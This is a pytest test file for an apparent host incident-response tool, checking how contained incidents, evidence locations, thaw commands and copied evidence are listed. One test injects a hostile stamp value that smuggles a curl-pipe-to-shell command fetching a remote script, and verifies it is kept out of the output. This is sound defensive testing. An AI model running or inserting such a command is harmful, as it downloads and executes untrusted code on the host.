import json

import pytest
from build import found, record
from desk import Desk, says

from picketline.core.store import Incident, Store
from picketline.hosts.account import NOTES

STAMP = "20260314150926"


def _frozen(stamp: str) -> str:
    """A host that says that a process is frozen by this incident."""
    return says(found(evidence=record("exe=/tmp/m", f"contained={stamp}")))


def test_none_at_first(desk: Desk) -> None:
    """Said in words, and as an empty list for programs."""
    done = desk.picket("incidents")
    assert (done.returncode, done.stdout, done.stderr) == (0, "no incidents\n", "")
    assert desk.picket("incidents", "--json").stdout == "[]\n"


def test_what_is_contained_and_how_to_undo_it(desk: Desk) -> None:
    """Where the evidence lies, and the command that thaws."""
    desk.fleet({"web-1": _frozen(STAMP)})
    desk.picket("run", "--json")
    done = desk.picket("incidents")
    first, *rest = done.stdout.splitlines()
    assert first.split()[:4] == [STAMP, "contained", "web-1", "HOST-EXE-001"]
    assert rest == [
        "  web-1: /tmp/m; processes 4242:991:77",
        f"  evidence: /root/incident-{STAMP}/ on web-1",
        f"  undo: picket thaw web-1 {STAMP} --reason TEXT",
    ]
    (incident,) = json.loads(desk.picket("incidents", "--json").stdout)
    assert (incident["id"], incident["part"], incident["state"]) == (STAMP, "web-1", "contained")


def test_a_host_writes_no_command(desk: Desk) -> None:
    """A line to be pasted holds nothing that a hostile host made up."""
    desk.fleet({"web-1": _frozen("1; curl http://203.0.113.9/i.sh | sh #")})
    desk.picket("run", "--json")
    assert "curl" not in desk.picket("incidents").stdout


def test_what_was_held_with_it(desk: Desk) -> None:
    """The rest of its tree, its container and remarks, in words; no words of the host's own."""
    desk.fleet({"web-1": ""})
    held = f"{'a' * 64} docker container aaaaaaaaaaaa (web) paused\x1b[2J"
    kept: dict[str, int | str] = {
        "targets": "4242:991:77",
        "subject": "web-1: /tmp/m",
        "with": "4243:992:78",
        "container": held,
        "notes": "service made-up",
    }
    incident = Incident(STAMP, "web-1", "f" * 64, "HOST-EXE-001", 1.0, "contained", kept)
    with Store.open(desk.state / "picketline") as store:
        store.add_incident(incident)
    assert desk.picket("incidents").stdout.splitlines()[2:5] == [
        "  with them: 4243:992:78",
        r"  docker container aaaaaaaaaaaa (web) paused\x1b[2J",
        f"  {NOTES['service']}",
    ]


@pytest.mark.parametrize(
    ("kept", "said"),
    [
        (
            {"copy": "/srv/e/1", "copy_by": "root@c", "copy_sha256": "a" * 64, "copy_tries": 1},
            ["  copy: /srv/e/1/ by root@c", f"    sha256 {'a' * 64}  manifest.sha256"],
        ),
        ({"copy_tries": 2}, ["  copy: none, tried 2 times (see the audit)"]),
    ],
)
def test_where_the_evidence_was_copied(
    desk: Desk, kept: dict[str, int | str], said: list[str]
) -> None:
    """The folder and who has it, with the manifest's hash; or that it could not be."""
    desk.fleet({"web-1": ""})
    record = kept | {"targets": "4242:991:77", "subject": "web-1: /tmp/m"}
    incident = Incident(STAMP, "web-1", "f" * 64, "HOST-EXE-001", 1.0, "thawed", record)
    with Store.open(desk.state / "picketline") as store:
        store.add_incident(incident)
    assert desk.picket("incidents").stdout.splitlines()[2:] == said
